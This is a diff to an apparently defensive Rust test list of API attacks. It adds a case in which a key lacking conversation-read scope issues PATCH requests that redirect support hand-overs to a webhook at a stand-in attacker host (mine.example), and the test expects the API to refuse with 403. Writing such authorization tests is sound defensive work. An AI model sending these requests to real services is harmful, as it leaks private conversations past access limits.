@@ -127,4 +127,22 @@ pub(super) const ATTACKS: &[Attack] = &[
         ]),
         expected: "403 forbidden -> nothing",
     },
+    Attack {
+        name: "where hand-overs go, from a key that may not read them",
+        does: "the same key, which has `workspaces:write` and no `conversations:read`, has the words of every hand-over sent to \
+               an address of its own, by a change of the workspace",
+        how: Sent(&[
+            shot(
+                "PATCH /api/v1/workspaces/shop",
+                &[BOUNDED, "if-match: *"],
+                r#"{"support":{"handoff_mode":"webhook","webhook_url":"https://mine.example/in"}}"#,
+            ),
+            shot(
+                "PATCH /api/v1/workspaces/shop",
+                &[BOUNDED, "if-match: *"],
+                r#"{"support":{"webhook_url":"https://mine.example/in"}}"#,
+            ),
+        ]),
+        expected: "403 insufficient_scope -> nothing",
+    },
 ];
